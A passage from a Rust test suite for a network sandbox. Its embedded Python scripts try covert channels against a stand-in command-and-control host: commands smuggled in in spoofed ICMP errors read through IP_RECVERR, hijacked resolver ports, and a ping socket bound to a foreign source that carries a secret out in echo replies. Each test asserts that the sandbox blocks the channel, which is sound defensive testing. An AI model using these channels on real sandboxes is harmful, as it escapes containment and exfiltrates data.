t.setsockopt(socket.SOL_IP, 11, 1)
res["tcp_recverr"] = t.getsockopt(socket.SOL_IP, 11)
end = time.time() + 3
while time.time() < end:
    try:
        data, anc, _, _ = s.recvmsg(2048, 1024, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)
        res["heard"].append(data.decode(errors="replace"))
        for level, kind, cdata in anc:
            if len(cdata) >= 24:
                res["from"].append(socket.inet_ntoa(cdata[20:24]))
    except BlockingIOError:
        time.sleep(0.05)
    except OSError as e:
        res.setdefault("errors", []).append(e.errno)
print(json.dumps(res), flush=True)
"#;

/// ICMP errors reach a socket through no cgroup program (`icmp_rcv` → `__udp4_lib_err`
/// → `ip_icmp_error` queues them on the socket's error queue; `sk_filter` never runs):
/// the C2, which the sandbox may neither reach nor hear, sends "port unreachable" errors
/// quoting a datagram of the sandbox's connected UDP socket, with the command as the
/// quoted payload; with `IP_RECVERR` the sandbox reads the command and the C2's address.
/// A policy that accepts inbound connections and may reach the sandbox's own address.
const HEARING_POLICY: &str = r#"
[[policy]]
name = "hearing"
inbound = true
allow_cidrs = ["203.0.113.20/32"]
"#;

/// An inbound channel only (nothing goes out), against the promise that a sandbox's UDP
/// sockets hear only their admitted peer. Now `cgroup/setsockopt` rewrites `IP_RECVERR`
/// to 0 for a policy without `inbound = true` (the call succeeds: glibc's resolver sets
/// it on every query's socket), with a `setsockopt`/`error_queue` event; a policy with
/// `inbound = true` keeps the option, and hears the errors (the control that shows the
/// errors arrive at all).
#[test]
fn icmp_errors_from_a_host_the_sandbox_may_not_hear_carry_nothing_to_it() {
    let env = world_with("ar13-icmperr", HEARING_POLICY, &[C2_4]);
    for policy in ["closed", "hearing"] {
        let command = format!("cmd-{}", random_suffix());
        let mut reader = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
            &env,
            policy,
            &[],
            &[python(), "-c", PY_ERRQUEUE, OWN4],
        ));
        assert_eq!(reader.line(), "ready");
        let mut c2 = Outside::start(PY_C2_ICMP, &[OWN4, OWN4, &command, C2_4]);
        if let Some(s) = c2.stdin.as_mut() {
            s.write_all(b"go\n").expect("go");
        }
        let sent = c2.line();
        let said = reader.line();
        let heard: Value =
            serde_json::from_str(&said).unwrap_or_else(|e| panic!("sandbox said {said:?}: {e}"));
        let got = heard["heard"].as_array().map_or(0, |h| {
            h.iter()
                .filter(|p| p.as_str().is_some_and(|p| p.contains(&command)))
                .count()
        });
        println!(
            "figure: policy {policy}: C2 {sent}; IP_RECVERR reads {}; the sandbox read the \
             command {got} time(s), from {}",
            heard["recverr"], heard["from"]
        );
        if policy == "closed" {
            assert_eq!(got, 0, "the C2's command reached the sandbox: {heard}");
            assert_eq!(heard["recverr"], 0, "IP_RECVERR stayed on: {heard}");
            assert_eq!(heard["recverr6"], 0, "IPV6_RECVERR stayed on: {heard}");
            // TCP queues ICMP errors quoting its SYN while it connects: rewritten too.
            assert_eq!(
                heard["tcp_recverr"], 0,
                "TCP's IP_RECVERR stayed on: {heard}"
            );
        } else {
            assert!(got > 0, "inbound = true keeps the error queue: {heard}");
            assert_eq!(heard["recverr6"], 1, "{heard}");
            assert_eq!(heard["tcp_recverr"], 1, "{heard}");
        }
    }
    env.wait_event("IP_RECVERR rewritten", |e| {
        e["hook"] == "setsockopt" && e["reason"] == "error_queue" && e["port"] == 11
    });
}

/// In the sandbox: binds each `PORT` of argv, over UDP and TCP, on loopback and on the
/// wildcard address of both families. `{"PROTO ADDR PORT": "ok" | errno name}`.
const PY_BINDS: &str = r#"
import errno, json, socket, sys
res = {}
for port in map(int, sys.argv[1:]):
    for addr in ["127.0.0.1", "0.0.0.0", "::1", "::"]:
        fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
        for name, kind in [("udp", socket.SOCK_DGRAM), ("tcp", socket.SOCK_STREAM)]:
            s = socket.socket(fam, kind)
            try:
                s.bind((addr, port))
                if kind == socket.SOCK_STREAM:
                    s.listen(1)
                res["%s %s %d" % (name, addr, port)] = "ok"
            except OSError as e:
                res["%s %s %d" % (name, addr, port)] = errno.errorcode.get(e.errno, str(e.errno))
            s.close()
print(json.dumps(res))
"#;

/// hb's resolver and guard listen on `port_base + policy id`, on loopback: a sandbox that
/// held one of those ports for another policy (or for a policy not loaded yet) would
/// answer that policy's DNS or take its guarded connections. No port of either range
/// can be bound from a sandbox, on any address, over UDP or TCP, whether the agent
/// listens on it or not; the ports just past each range can.
#[test]
fn a_sandbox_binds_no_port_of_the_resolvers_or_the_guards_range() {
    let env = world_with("ar13-ports", OPEN_POLICY, &[]);
    let other = env.policy_id("open");
    let ports = [5300 + other, 5300 + 255, 15300 + other, 15300 + 255];
    let controls = [5300 + 256, 15300 + 256];
    let args: Vec<String> = ports
        .iter()
        .chain(&controls)
        .map(|p| p.to_string())
        .collect();
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let got = sandbox_json(&env, "closed", PY_BINDS, &argv);
    let map = got.as_object().expect("results");
    let bound: Vec<&String> = map
        .iter()
        .filter(|(k, v)| {
            let port: u32 = k
                .rsplit(' ')
                .next()
                .and_then(|p| p.parse().ok())
                .unwrap_or(0);
            ports.contains(&port) && *v != "EPERM"
        })
        .map(|(k, _)| k)
        .collect();
    println!(
        "figure: {} of {} binds in the ranges were not refused: {bound:?}",
        bound.len(),
        ports.len() * 8
    );
    assert!(bound.is_empty(), "a sandbox bound a port of hb's: {got}");
    for c in controls {
        assert_eq!(
            map.get(&format!("udp 127.0.0.1 {c}")),
            Some(&Value::from("ok")),
            "the port past the range is a sandbox's to bind: {got}"
        );
    }
}

/// In the sandbox: sets `SO_REUSEPORT` on a TCP socket and `SO_REUSEADDR` on a UDP one;
/// prints what each got (`ok` or the error).
const PY_SHARED_PORT_OPTIONS: &str = r#"
import json, socket
res = {}
for name, kind, opt in (("reuseport", socket.SOCK_STREAM, socket.SO_REUSEPORT), ("udp_reuseaddr", socket.SOCK_DGRAM, socket.SO_REUSEADDR)):
    s = socket.socket(socket.AF_INET, kind)
    try:
        s.setsockopt(socket.SOL_SOCKET, opt, 1)
        res[name] = "ok"
    except OSError as e:
        res[name] = e.strerror
print(json.dumps(res), flush=True)
"#;

/// The shared-port refusal holds where a sandbox shares ports with the host's daemons
/// (the agent's network namespace), not in a namespace of the sandbox's own, as a pod
/// has: there only its own sockets are, and its servers (a sidecar proxy's listeners)
/// keep `SO_REUSEPORT`. The same policy, launched in a fresh network namespace
/// (`unshare --net`), keeps both options; launched beside the agent, it is refused both.
#[test]
fn shared_ports_are_refused_beside_the_host_only() {
    let env = world_with("ar13-ownns", "", &[]);
    let run = |own_netns: bool| -> Value {
        let mut cmd = Command::new(if own_netns { "unshare" } else { "env" });
        if own_netns {
            cmd.args(["--net", "--"]);
        }
        let out = cmd
            .arg(hb_tests::agent_bin())
            .arg("--config")
            .arg(&env.config_path)
            .args([
                "sandbox", "run", "--policy", "closed", "--user", "65534", "--",
            ])
            .args([python(), "-c", PY_SHARED_PORT_OPTIONS])
            .stdin(Stdio::null())
            .output()
            .expect("sandbox run");
        assert!(
            out.status.success(),
            "sandbox failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).expect("sandbox JSON")
    };
    let beside = run(false);
    let own = run(true);
    println!("figure: beside the agent {beside}; in a network namespace of its own {own}");
    assert_eq!(beside["reuseport"], "Operation not permitted", "{beside}");
    assert_eq!(
        beside["udp_reuseaddr"], "Operation not permitted",
        "{beside}"
    );
    assert_eq!(own["reuseport"], "ok", "{own}");
    assert_eq!(own["udp_reuseaddr"], "ok", "{own}");
}

/// In the sandbox: an ICMPv6 ping socket bound to the C2's address (ping sockets have
/// a bind of their own, `ping_bind`, for which the kernel runs no `cgroup/bind6`) sends
/// an echo request with the secret to the sandbox's own (allowed) address; the echo
/// reply, secret included, is addressed to the bound source.
const PY_PING_SPOOF: &str = r#"
import json, socket, struct, sys, time
own, c2, secret = sys.argv[1], sys.argv[2], sys.argv[3]
res = {}
try:
    p = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
except OSError as e:
    res["socket"] = str(e); print(json.dumps(res)); sys.exit(0)
try:
    p.bind((c2, 0)); res["bind"] = "ok"
except OSError as e:
    res["bind"] = str(e); print(json.dumps(res)); sys.exit(0)
try:
    for i in range(3):
        p.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, i) + secret.encode(), (own, 0))
    res["sent"] = True
except OSError as e:
    res["sent"] = str(e)
time.sleep(1)
print(json.dumps(res))
"#;

/// Ping sockets (open to every group here, as many distributions set
/// `net.ipv4.ping_group_range`) on a host with `net.ipv6.ip_nonlocal_bind = 1`: their
/// bind runs no cgroup hook, so the echo request leaves from the C2's address and the
/// host's echo reply carries the secret to the C2. Now `cgroup_skb/egress` drops an
/// IPv6 packet other than TCP and UDP from a source that is not the host's (reason
/// `nonlocal_source`).
#[test]
fn a_ping_socket_bound_to_a_foreign_source_sends_nothing_to_it() {
    // The policy opts in to ping sockets (refused at `cgroup/sock_create` otherwise, attack
    // review 27): what is tested is the packet hook's source check.
    let env = world_with("ar13-pingspoof", "icmp_echo = true\n", &[]);
    nonlocal("sysctl");
    ip_sysctl("net.ipv4.ping_group_range=0 2147483647");
    let secret = format!("exfil-{}", random_suffix());
    let c2 = Outside::start(PY_C2_ICMP6_SEEN, &[C2_NET6]);
    let got = sandbox_json(&env, "closed", PY_PING_SPOOF, &[OWN6, C2_6, &secret]);
    let seen = c2.finish();
    let payload = seen["payload"].as_str().unwrap_or_default();
    println!(
        "figure: ping: sandbox {got}; C2 saw {} ICMPv6 packet(s), secret {}",
        seen["packets"],
        if payload.contains(&secret) {
            "received"
        } else {
            "not received"
        }
    );
    assert!(
        !payload.contains(&secret),
        "the echo reply reached the C2: {seen}"
    );
    env.wait_event("the echo request from the C2's address dropped", |e| {
        e["hook"] == "skb_egress" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
    });
}

/// The C2 as a tun device that records every ICMPv6 packet routed to its network.
const PY_C2_ICMP6_SEEN: &str = r#"
import fcntl, json, os, select, struct, subprocess, sys
net = sys.argv[1]
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH", b"hbc2", 0x0001 | 0x1000))
subprocess.run(["ip", "link", "set", "hbc2", "up"], check=True)
subprocess.run(["ip", "-6", "route", "add", net, "dev", "hbc2"], check=True)
packets, payload = 0, b""
print("ready", flush=True)
while True:
    r, _, _ = select.select([tun, sys.stdin], [], [])
    if sys.stdin in r:
        break
    pkt = os.read(tun, 65535)
    if len(pkt) >= 48 and pkt[0] >> 4 == 6 and pkt[6] == 58:
        packets += 1
        payload += pkt[48:]
print(json.dumps({"packets": packets, "payload": payload.decode("latin-1")}), flush=True)
"#;
